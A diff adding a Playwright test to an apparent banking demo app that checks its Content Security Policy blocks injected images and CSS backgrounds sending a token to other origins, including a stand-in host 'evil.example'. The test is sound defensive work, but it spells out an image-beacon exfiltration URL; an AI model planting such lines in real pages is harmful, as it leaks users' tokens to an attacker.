@@ -74,6 +74,47 @@ test('a script that turns text into markup or code is refused on every kind of p
   expect(await injections(page)).toEqual(refused)
 })
 
+test('a planted image of another origin is refused, and carries nothing away', async ({ page, bankOf }) => {
+  const person = demoDepositor(bankOf('harbor'), 'active')
+  const { origin } = person.bank
+  const refusals = await collectViolations(page.context())
+  const requested: string[] = []
+  await page.context().route(/\?token=/, (route) => {
+    requested.push(new URL(route.request().url()).origin)
+    return route.fulfill({ contentType: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg"/>' })
+  })
+  await startSession(page, person)
+  await page.goto(`${origin}/dashboard`)
+  await expect(heading(page, person.say('dashboard:home.title', { name: 'Amelia' }))).toBeVisible()
+  const outcomeOf = (address: string) =>
+    page.evaluate(
+      (src) =>
+        new Promise<string>((resolve) => {
+          const image = document.createElement('img')
+          image.addEventListener('load', () => resolve('loaded'))
+          image.addEventListener('error', () => resolve('refused'))
+          image.src = src
+          document.body.append(image)
+        }),
+      `${address}/?token=taken`,
+    )
+  const others = ['https://evil.example', 'http://juniper.localhost', origin.replace('://', '://link.')]
+  for (const other of others) expect(await outcomeOf(other), other).toBe('refused')
+  expect(await outcomeOf(origin)).toBe('loaded')
+  expect(requested).toEqual([origin])
+  await expect
+    .poll(() => refusals.filter((refusal) => refusal.includes(': img-src ')).length)
+    .toBe(others.length)
+  // In a style too.
+  await page.evaluate(() => {
+    document.body.style.backgroundImage = 'url("https://evil.example/?token=taken")'
+  })
+  await expect
+    .poll(() => refusals.filter((refusal) => refusal.includes(': img-src ')).length)
+    .toBe(others.length + 1)
+  expect(requested).toEqual([origin])
+})
+
 test('nothing is refused that a depositor’s pages do: log-in, linking and answers as HTML', async ({
   page,
   ownBankOf,
